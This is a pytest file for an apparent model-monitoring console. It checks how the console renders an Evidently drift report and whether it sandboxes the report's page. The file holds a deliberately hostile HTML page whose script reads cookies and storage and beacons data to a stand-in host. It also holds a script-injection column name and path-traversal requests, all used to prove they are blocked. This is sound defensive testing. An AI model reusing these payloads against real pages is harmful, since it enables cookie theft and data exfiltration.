"""The page of Evidently's report: what is kept, what is out of date, what was never made; and its page in a sandbox."""

from __future__ import annotations

import http.server
import re
import shutil
import threading
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from starlette.applications import Starlette
from starlette.middleware import Middleware
from starlette.testclient import TestClient
from streamlit.testing.v1 import AppTest

from palomar.app.console import driving, handing
from palomar.app.console.options import STORE_VARIABLE
from palomar.app.drift_report import cycles_with_a_page
from palomar.app.service import Observatory
from palomar.detectors.evidently_report import FOLDER, Column, EvidentlyReport, keep
from tests.app.console.conftest import said

Page = Callable[..., AppTest]
CYCLE = 7
HOSTILE = "![x](http://beacon.invalid/x.png)<script>"
COLUMNS = (
    Column("edited", "PSI", 2.75, 0.1, True, 120),
    Column("term:`x` **b**", "PSI", 0.31, 0.1, True, 120),
    Column("latency_s", "PSI", 0.02, 0.1, False, 120),
    Column(HOSTILE, None, None, 0.1, None, 3, "3 values in the cycle, 0 in the reference; 50 are needed"),
)
EVIL = """<!doctype html><html><head><title>evil</title></head><body><p id=said>nothing</p><script>
const said = [];
try { said.push("cookie:" + document.cookie.length); } catch (error) { said.push("cookie refused"); }
try { localStorage.setItem("a", "b"); said.push("storage"); } catch (error) { said.push("storage refused"); }
try { const it = window.opener && window.opener.document.title; said.push("opener:" + it); }
catch (error) { said.push("opener refused"); }
said.push("origin:" + self.origin);
document.getElementById("said").textContent = said.join(" ");
const tell = (words) => { document.getElementById("said").textContent += " " + words; };
fetch("/_stcore/health").then(() => tell("fetched")).catch(() => tell("fetch refused"));
new Image().src = "BEACON/x.png";
fetch("BEACON/fetch", {mode: "no-cors"}).catch(() => {});
navigator.sendBeacon && navigator.sendBeacon("BEACON/sent");
try { window.open("BEACON/opened"); } catch (error) {}
try { top.location = "BEACON/top"; } catch (error) {}
setTimeout(() => { location = "BEACON/self?" + encodeURIComponent(said); }, 800);
</script></body></html>"""


def keep_report(home: Path, html: str = EVIL) -> Path:
    """Keeps a report on cycle 7, as `palomar report` does, with a page of our own in place of Evidently's."""
    page = home / FOLDER / f"{CYCLE}.html"
    page.parent.mkdir(parents=True)
    page.write_text(html, encoding="utf-8")
    view = Observatory(home).view(CYCLE)
    assert view is not None
    keep(view, EvidentlyReport(page, page.with_suffix(".json"), COLUMNS, 120, 960))
    return page


@pytest.fixture(scope="module")
def beacon() -> Iterator[tuple[str, list[str]]]:
    """A server that notes what it is asked: its URL, and the paths."""
    asked: list[str] = []

    class Noting(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, *_: object) -> None:
            pass

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Noting) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
        server.shutdown()


@pytest.fixture(scope="module")
def reported(seeded: Path, tmp_path_factory: pytest.TempPathFactory, beacon: tuple[str, list[str]]) -> Path:
    home = Path(shutil.copytree(seeded, tmp_path_factory.mktemp("reported") / "home"))
    keep_report(home, EVIL.replace("BEACON", beacon[0]))
    return home


def test_what_is_kept_is_a_table_of_ours(page: Page, reported: Path) -> None:
    app = page(reported, "report")
    assert not app.exception
    words = said(app)
    assert "**2 of 3 columns drifted** in cycle 7 (PSI of 0.1 or more): ` edited ` (2.75)" in words
    assert "120 interactions beside 960 of the reference" in words
    table = app.dataframe[0].value
    assert list(table["column"]) == ["edited", "term:`x` **b**", "latency_s"]
    assert list(table[""]) == ["▲ DRIFT", "▲ DRIFT", "● NO DRIFT"]
    # What has no value is named with its reason, never a row with a 0.
    assert any("50 are needed" in text.value for text in app.text)
    # Names of columns are never markup.
    bare = re.sub(r"(`+) .*? \1(?!`)", "", words)
    for attack in ("beacon.invalid", "<script", "**b**"):
        assert attack not in bare
    assert f"/{handing.PREFIX}/" in f"/{app.get('link_button')[0].proto.url}"


def test_a_cycle_without_one_says_how_to_make_it(page: Page, reported: Path, seeded: Path) -> None:
    app = page(reported, "report", cycle="3")
    assert "**No report is kept of cycle 3.**" in said(app)
    assert "palomar report --cycle 3" in [block.value for block in app.code]
    assert not app.dataframe
    app = page(seeded, "report")
    assert "No report is kept in this home." in said(app)
    assert "There is no cycle ` 99 ` here" in said(page(reported, "report", cycle="99"))


def test_one_that_is_out_of_date_shows_no_figures(page: Page, reported: Path, tmp_path: Path) -> None:
    home = Path(shutil.copytree(reported, tmp_path / "home"))
    observatory = Observatory(home)
    lake = observatory.lake
    asked = lake.connect(["observations"]).execute("SELECT * FROM observations LIMIT 0")
    columns = [name for name, *_ in asked.description or ()]
    lake.write_observations(lake.scan("observations", columns, cycles=[CYCLE]).slice(1), CYCLE)
    app = page(home, "report")
    assert not app.exception
    assert "is out of date" in said(app)
    assert not app.dataframe
    assert cycles_with_a_page(observatory) == [CYCLE]


def test_the_empty_home_the_store_that_is_down_and_a_page_that_has_gone(
    page: Page, reported: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert "palomar demo" in said(page(tmp_path / "nothing", "report"))
    home = Path(shutil.copytree(reported, tmp_path / "home", copy_function=shutil.copy2))
    (home / FOLDER / f"{CYCLE}.html").unlink()
    app = page(home, "report", cycle=str(CYCLE))
    assert not app.exception
    assert "own page has gone" in said(app)
    monkeypatch.setenv(STORE_VARIABLE, "postgresql://nobody:secret@127.0.0.1:1/none")
    app = page(reported, "report")
    assert not app.exception
    assert "the store does not answer" in app.error[0].value


# -- the sandbox -----------------------------------------------------------------------------------------------------


def test_a_ticket_is_drawn_once_and_names_one_file(tmp_path: Path) -> None:
    file = tmp_path / "page.html"
    file.write_text("<p>page</p>")
    asked = handing.ticket(file)
    assert handing.ticket(file) == asked
    other = tmp_path / "other.html"
    assert handing.ticket(other) != asked
    with TestClient(Starlette(routes=handing.ROUTES)) as client:
        reply = client.get(f"/{asked}/page")
        assert (reply.status_code, reply.text) == (200, "<p>page</p>")
        assert reply.headers["content-security-policy"] == handing.POLICY
        frame = client.get(f"/{asked}")
        assert frame.headers["content-security-policy"] == handing.FRAME_POLICY
        assert "<p>page" not in frame.text
        assert 'sandbox="allow-scripts"' in frame.text
        # As a document of its own it could turn to another address.
        assert client.get(f"/{asked}/page", headers={"sec-fetch-dest": "document"}).status_code == 403
        assert client.get(f"/{handing.ticket(other)}/page").status_code == 404
        for guessed in ("x", "../palomar.db", "%2e%2e%2fpalomar.db", ""):
            assert client.get(f"/{handing.PREFIX}/{guessed}").status_code == 404
        assert client.post(f"/{asked}").status_code == 405


def test_a_ticket_runs_out(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = tmp_path / "page.html"
    file.write_text("<p>page</p>")
    asked = handing.ticket(file)
    with TestClient(Starlette(routes=handing.ROUTES)) as client:
        assert client.get(f"/{asked}").status_code == 200
        later = handing.time.monotonic() + handing.LIFE_S + 1
        monkeypatch.setattr(handing.time, "monotonic", lambda: later)
        assert client.get(f"/{asked}/page").status_code == 404
        assert client.get(f"/{asked}").status_code == 404


def test_the_console_adds_its_policy_to_all_pages_but_those_with_one_of_their_own(tmp_path: Path) -> None:
    from starlette.responses import PlainTextResponse
    from starlette.routing import Route

    from palomar.app.console.server import SecurityHeaders

    file = tmp_path / "page.html"
    file.write_text("<p>page</p>")
    plain = Route("/plain", lambda _: PlainTextResponse("ours"))
    web = Starlette(routes=[*handing.ROUTES, plain], middleware=[Middleware(SecurityHeaders)])
    with TestClient(web) as client:
        asked = handing.ticket(file)
        assert client.get(f"/{asked}/page").headers.get_list("content-security-policy") == [handing.POLICY]
        assert client.get(f"/{asked}").headers.get_list("content-security-policy") == [handing.FRAME_POLICY]
        (policy,) = client.get("/plain").headers.get_list("content-security-policy")
        assert "sandbox" not in policy
        assert "default-src 'self'" in policy


@pytest.fixture(scope="module")
def served(reported: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with driving.served(reported, tmp_path_factory.mktemp("log") / "console.log") as url:
        yield url


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.skipif(shutil.which(driving.CHROMIUM) is None, reason="no chromium on this machine")
def test_a_hostile_report_reaches_neither_console_nor_network(served: str, beacon: tuple[str, list[str]]) -> None:
    with driving.browser() as opened:
        context = opened.new_context(viewport={"width": 1280, "height": 800})
        tab = context.new_page()
        tab.goto(f"{served}/report?cycle={CYCLE}")
        driving.settle(tab)
        tab.evaluate("() => { document.cookie = 'console=secret'; }")
        with context.expect_page() as made:
            tab.get_by_role("link", name="Open Evidently's page").click()
        evil = made.value
        evil.wait_for_load_state()
        said_by = evil.frame_locator("iframe").locator("#said")
        evil.wait_for_timeout(500)
        told = said_by.text_content() or ""
        # Its script ran, in an origin of its own.
        assert "origin:null" in told
        assert "cookie refused" in told
        assert "storage refused" in told
        assert "opener:null" in told or "opener refused" in told
        assert "fetch refused" in told
        evil.wait_for_timeout(1_500)
        # Neither the tab nor the frame went anywhere.
        assert f"/{handing.PREFIX}/" in evil.url
        assert evil.title() == "Report in a sandbox"
        assert beacon[1] == []
        assert "Palomar" in tab.title() or "report" in tab.title().lower()
        # The beacon answers whoever gets there.
        tab.context.request.get(f"{beacon[0]}/there")
        assert beacon[1] == ["/there"]
        context.close()


@pytest.mark.browser
@pytest.mark.slow
def test_nothing_is_handed_out_without_a_ticket(served: str) -> None:
    # A guessed ticket is not there; a path that climbs is refused before it is looked for.
    for path, code in ((f"/{handing.PREFIX}/7", 404), (f"/{handing.PREFIX}/..%2fpalomar.db", 400)):
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(served + path, timeout=10)
        assert refused.value.code == code
